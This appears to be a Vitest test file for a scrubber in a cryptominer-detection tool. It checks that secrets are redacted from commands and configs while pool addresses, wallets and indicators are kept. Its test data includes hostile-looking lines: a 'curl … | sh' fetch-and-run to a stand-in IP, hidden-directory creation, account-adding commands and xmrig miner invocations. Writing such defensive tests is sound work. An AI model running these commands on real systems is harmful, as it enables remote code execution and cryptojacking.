import { describe, expect, it } from 'vitest';
import { expectLinear, fuzz, hostileText } from '../../scripts/testing/fuzz.ts';
import { readMinerCommand } from '../recognise/miner-command.ts';
import { readMinerConfig } from '../recognise/miner-config.ts';
import {
  makeBase58CheckAddress,
  makeCashaddrAddress,
  makeEthereumAddress,
  makeMoneroAddress,
  makeSegwitAddress,
} from '../recognise/wallet/testing.ts';
import { scrubArgv, scrubOsArgv, scrubText } from './scrub.ts';

const SECRET = 'Hunter2-Zq8';
const wallet = makeMoneroAddress('scrub');
const tron = makeBase58CheckAddress([0x41], 'scrub');
const privateKey = makeBase58CheckAddress([0x80], 'wif', 32);

/** Texts that hold `SECRET`, or the secret named beside them: it must go. */
const secretTexts: readonly (string | readonly [text: string, secret: string])[] = [
  `DB_PASSWORD=${SECRET}`,
  `export PGPASSWORD='${SECRET}'`,
  `AWS_SECRET_ACCESS_KEY=${SECRET}`,
  `mysql -u root -p${SECRET} -h db.example shop`,
  `mysqldump --password=${SECRET} shop`,
  `mysql --password ${SECRET}`,
  `sshpass -p ${SECRET} ssh admin@host.example`,
  `sshpass -p '${SECRET} with space' ssh x`,
  `curl -u admin:${SECRET} https://api.example/`,
  `curl --user 'admin:${SECRET}' https://api.example/`,
  `curl -H "Authorization: Bearer ${SECRET}" https://api.example/`,
  `curl -H 'X-Api-Key: ${SECRET}' https://api.example/`,
  `curl -H "Cookie: sid=${SECRET}; theme=dark" https://api.example/`,
  `curl https://api.example/v1?user=a&token=${SECRET}`,
  `wget https://admin:${SECRET}@files.example/a.tgz`,
  `git clone https://user:p@${SECRET}@git.example/x.git`,
  `redis-cli -h r.example -a ${SECRET} ping`,
  `docker login -u ci -p ${SECRET} registry.example`,
  `echo ${SECRET} | sudo -S id`,
  `echo "root:${SECRET}" | chpasswd`,
  `htpasswd -b /etc/nginx/htpasswd admin ${SECRET}`,
  `net user admin ${SECRET} /add`,
  `cmdkey /add:host /user:me /pass:${SECRET}`,
  `openssl enc -aes-256-cbc -k ${SECRET} -in a`,
  `openssl rsa -passin pass:${SECRET} -in k.pem`,
  `sqlcmd -S db -U sa -P ${SECRET} -Q "select 1"`,
  `smbclient //srv/share -U me%x --password=${SECRET}`,
  `ldapsearch -x -D cn=admin -w ${SECRET}`,
  `ConvertTo-SecureString '${SECRET}' -AsPlainText -Force`,
  `$password = "${SECRET}"`,
  `password: ${SECRET} and more words`,
  `password = ${SECRET}`,
  `  "pass": "${SECRET}",`,
  `{"password":"a\\"b,${SECRET}"}`,
  `{"password":"it's ${SECRET}"}`,
  `{"text":"{\\"password\\":\\"${SECRET}\\"}"}`,
  `{"secrets":["${SECRET}","x"]}`,
  `{"dbPassword":${'12345678'}}|12345678`.split('|') as [string, string],
  `<password>${SECRET}</password>`,
  `<add key="DbPassword" value="${SECRET}" />`,
  `requirepass ${SECRET}`,
  `machine ftp.example login me password ${SECRET}`,
  `db.example:5432:shop:app:${SECRET}`,
  `Server=db.example;Database=shop;User Id=app;Password=${SECRET};`,
  `AccountName=a;AccountKey=${SECRET};EndpointSuffix=core.example`,
  `postgres://app:${SECRET}@db.example:5432/shop`,
  `mongodb+srv://app:${SECRET}@m.example/?retryWrites=true`,
  `CREATE USER a IDENTIFIED BY '${SECRET}';`,
  `//registry.example/:_authToken=${SECRET}`,
  `stratum+tcp://${wallet}.rig:${SECRET}@pool.example:3333`,
  `./xmrig -o pool.example:3333 -u ${wallet} -p ${SECRET}`,
  `./minerd -O ${wallet}:${SECRET} -o stratum+tcp://pool.example:3333`,
  `./xmrig --http-access-token=${SECRET} -o pool.example:3333`,
  `sh -c 'mysql -p${SECRET} shop'`,
  `TOKEN=${SECRET} ./deploy.sh`,
  `curl -uadmin:${SECRET} https://api.example/`,
  `monero-wallet-rpc --rpc-login u:${SECRET} --wallet-file w`,
  `monero-wallet-cli --daemon-login=u:${SECRET}`,
  `monero-wallet-cli --electrum-seed "${SECRET} ability able"`,
  `ipmitool -I lanplus -H h -U a -P ${SECRET} sol activate`,
  `mosquitto_pub -h h -u a -P ${SECRET} -t x`,
  `snmpwalk -v3 -u a -A ${SECRET} -X ${SECRET} h`,
  `smbclient -U me%${SECRET} //srv/share`,
  `sqlcmd -S db -U sa -P${SECRET}`,
  `net use Z: \\\\host\\share ${SECRET} /user:bob`,
  `vault login ${SECRET}`,
  `rabbitmqctl add_user bob ${SECRET}`,
  `aws configure set aws_secret_access_key ${SECRET}`,
  `setx TOKEN ${SECRET}`,
  `lftp -u bob,${SECRET} ftp.example`,
  `http -a bob:${SECRET} http://a.example`,
  `cmd /c net use \\\\host\\share ${SECRET} /user:bob`,
  `schtasks /create /ru bob /rp ${SECRET} /tn x`,
  `<property name="password">${SECRET}</property>`,
  `<password><![CDATA[${SECRET}]]></password>`,
  `define('DB_PASSWORD', '${SECRET}');`,
  `$cfg['password'] = '${SECRET}';`,
  `su - bob <<< ${SECRET}`,
  `expect -c 'send "${SECRET}\\r"'`,
  `password: >-\n  ${SECRET}\n  more ${SECRET}`,
  `C:\\tools\\wrapper --token ${SECRET} --exec C:\\app\\other.exe -x`,
  `C:\\Windows\\System32\\cmd /c set PASSWORD=${SECRET}&& C:\\app\\run.exe`,
  `C:\\jre\\bin\\java -Dpw=${SECRET} -cp c:\\app\\x.exe y`,
  `nginx: worker --token ${SECRET}`,
  ...(
    [
      'AKIAIOSFODNN7EXAMPLE',
      `ghp_${'a1B2'.repeat(9)}`,
      `glpat-${'a1B2'.repeat(5)}`,
      `xoxb-${'1234'.repeat(4)}-abc`,
      `sk-${'a1B2'.repeat(8)}`,
      `AIza${'a1B2c'.repeat(7)}`,
      `eyJhbGciOiJIUzI1NiJ9.${'a1B2'.repeat(6)}.${'c3D4'.repeat(6)}`,
      `$6$saltsalt$${'a1B2'.repeat(20)}`,
      `123456789:AA${'a1B2'.repeat(8)}a`,
      privateKey,
    ] as const
  ).map((secret) => [`see ${secret} there`, secret] as const),
  [
    `-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXk\nQUJDREVG\n-----END OPENSSH PRIVATE KEY-----`,
    'b3BlbnNzaC1rZXk',
  ],
  [`-----BEGIN RSA PRIVATE KEY-----\nMIIEcutoffcutoff`, 'MIIEcutoffcutoff'],
];

/** Texts with what must stay word for word. */
const kept: readonly (readonly [text: string, ...indicators: string[]])[] = [
  [`./xmrig -o pool.example:3333 -u ${wallet}.rig7 -p x -k`, 'pool.example:3333', `${wallet}.rig7`],
  [`./xmrig --url=stratum+ssl://pool.example:443 --user=${wallet} --pass=x`, 'stratum+ssl://pool.example:443', wallet],
  [`stratum+tcp://${wallet}.rig:x@pool.example:3333`, `${wallet}.rig`, '@pool.example:3333'],
  [
    `stratum1+tcp://${makeEthereumAddress('keep')}.rig@eth.example:4444`,
    makeEthereumAddress('keep'),
    'eth.example:4444',
  ],
  [`minerd -O ${tron}:x -o stratum+tcp://203.0.113.9:3333`, tron, 'stratum+tcp://203.0.113.9:3333'],
  [`x -u TRX:${tron}.worker#ab12-cd34 -o 198.51.100.4:3333`, `TRX:${tron}.worker#ab12-cd34`],
  [`x -u ${makeCashaddrAddress('kaspa', 'keep')}.rig -p x`, makeCashaddrAddress('kaspa', 'keep')],
  [`PASSWORD=${wallet}`, wallet],
  [`"password": "worker ${makeSegwitAddress('bc', 0, 20, 'keep')}"`, makeSegwitAddress('bc', 0, 20, 'keep')],
  [`"pass": "stratum+tcp://pool.example:3333"`, 'stratum+tcp://pool.example:3333'],
  [`token: see stratum+tcp://[2001:db8::1]:3333 there`, 'stratum+tcp://[2001:db8::1]:3333'],
  [`WALLET=${wallet} POOL=pool.example:3333 PASS=x ./run.sh`, `WALLET=${wallet}`, 'POOL=pool.example:3333', './run.sh'],
  [`"user": "${wallet}", "pass": "x", "url": "pool.example:3333"`, `"user": "${wallet}"`, '"url": "pool.example:3333"'],
  ['PWD=/root/.cache/x', '/root/.cache/x'],
  ['ssh -p 2222 root@198.51.100.7', '-p 2222 root@198.51.100.7'],
  ['docker run -p 3333:3333 -u 1000:1000 img', '-p 3333:3333 -u 1000:1000'],
  ['mkdir -p /tmp/.x', '/tmp/.x'],
  ['curl http://203.0.113.5/x.sh | sh', 'curl http://203.0.113.5/x.sh | sh'],
  ['password=$1 token=$' + '{TOKEN}', '$1', '$' + '{TOKEN}'],
  ['"access-token": null, "restricted": true', '"access-token": null, "restricted": true'],
  ['echo hello world | grep x', 'hello world'],
  [`PASSWORD=abc ./x -o pool.example:3333 -u ${wallet}`, wallet, 'pool.example:3333'],
  ['the author of this tokenizer; bypass: none', 'the author of this tokenizer; bypass: none'],
  ...[
    'C:\\Program Files\\Token Broker\\Auth Agent\\agent.exe',
    'C:\\Program Files (x86)\\Password Safe\\secret.exe',
    '%SystemRoot%\\System32\\TokenBroker.dll',
    '\\\\?\\C:\\Windows\\System32\\keyiso.dll',
    'java -Drealm=main -Dx=y -jar C:\\app\\a.jar',
  ].map((path) => [path, path] as const),
];

describe('scrubText', () => {
  it.each(secretTexts.map((entry) => (typeof entry === 'string' ? [entry, SECRET] : entry)))(
    'takes the secret out of %s',
    (text, secret) => {
      expect(text).toContain(secret);
      expect(scrubText(`first line\n${text}\nlast line`)).not.toContain(secret);
    },
  );

  it.each(kept)('keeps the indicators of %s', (text, ...indicators) => {
    const scrubbed = scrubText(text);
    for (const indicator of indicators) expect(scrubbed).toContain(indicator);
  });

  it.each([
    ...secretTexts.map((entry) => (typeof entry === 'string' ? entry : entry[0])),
    ...kept.map(([text]) => text),
  ])('changes nothing more the second time: %s', (text) => {
    const once = scrubText(text);
    expect(scrubText(once)).toBe(once);
  });

  it('leaves a miner configuration readable with the same pools and wallets', () => {
    const config = JSON.stringify({
      'donate-level': 1,
      http: { 'access-token': SECRET, restricted: true },
      randomx: { wrmsr: true },
      pools: [{ url: 'pool.example:3333', user: `${wallet}.rig`, pass: SECRET, 'rig-id': null, tls: true }],
    });
    const scrubbed = scrubText(config);
    expect(scrubbed).not.toContain(SECRET);
    expect(readMinerConfig(scrubbed)).toEqual(readMinerConfig(config));
    expect(readMinerConfig(scrubbed)?.wallets).toHaveLength(1);
  });

  it('keeps everything else as it was', () => {
    const script = '#!/bin/sh\nset -e\n  cd /srv/app && make -j4 install  # comment\n\ttail -f log\r\n';
    expect(scrubText(script)).toBe(script);
  });
});

describe('scrubArgv', () => {
  it('keeps number and order of arguments, takes password and keeps wallet', () => {
    const argv = [
      './x',
      '-o',
      'pool.example:3333',
      '-u',
      `${wallet}.rig`,
      '-p',
      SECRET,
      '--token',
      SECRET,
      `--pass=${SECRET}`,
    ];
    const scrubbed = scrubArgv(argv);
    expect(scrubbed).toEqual([
      './x',
      '-o',
      'pool.example:3333',
      '-u',
      `${wallet}.rig`,
      '-p',
      '[redacted]',
      '--token',
      '[redacted]',
      '--pass=[redacted]',
    ]);
    expect(readMinerCommand(scrubbed)).toEqual(readMinerCommand(argv));
  });

  it('reads through sh -c', () => {
    const scrubbed = scrubArgv([
      'sh',
      '-c',
      `mysql -p${SECRET} < a; ./x -o pool.example:3333 -u ${wallet} -p ${SECRET}`,
    ]);
    expect(scrubbed.join(' ')).not.toContain(SECRET);
    expect(scrubbed.join(' ')).toContain(wallet);
  });

  it('takes a password with spaces given as one argument', () => {
    expect(scrubArgv(['tool', '--password', 'two words'])).toEqual(['tool', '--password', '[redacted]']);
  });

  it('takes values with spaces out of an environment', () => {
    const environ = [
      'DB_PASSWORD=two words',
      'PATH=/usr/bin:/bin',
      'DATABASE_URL=postgres://a:b@c/d',
      `WALLET=${wallet}`,
      'TOKEN=',
    ];
    expect(scrubArgv(environ)).toEqual([
      'DB_PASSWORD=[redacted]',
      'PATH=/usr/bin:/bin',
      'DATABASE_URL=[redacted]',
      `WALLET=${wallet}`,
      'TOKEN=',
    ]);
  });

  it('drops the exact bytes of a name that held a secret, and only those', () => {
    const argv = [
      { text: 'x' },
      { text: '--token=\ufffd', rawBase64: 'LS10b2tlbj3/' },
      { text: '/tmp/\ufffd', rawBase64: 'L3RtcC//' },
    ];
    expect(scrubOsArgv(argv)).toEqual([argv[0], { text: '--token=[redacted]' }, argv[2]]);
  });

  it('leaves an empty list and an empty argument alone', () => {
    expect(scrubArgv([])).toEqual([]);
    expect(scrubArgv(['a', ''])).toEqual(['a', '']);
  });
});

it('never throws and stays fast, whatever the text', () => {
  fuzz('scrubText', hostileText(), (text) => {
    scrubText(text);
    scrubArgv(text.split(' '));
  });
});

it.each([
  'eyJ-',
  'eyJa.',
  'password=',
  '"pass":"',
  '://a@',
  '-p x ',
  "'",
  '"',
  'echo ',
  '-----BEGIN PRIVATE KEY-----',
  'a',
  'a-',
  'token ',
  'sk-',
  '<pass>',
  '$6$',
  'a:1:',
  '\n',
  '[',
  'pass:[',
])('is linear for 300 kB of %j', (unit) => {
  expectLinear(unit, scrubText);
});
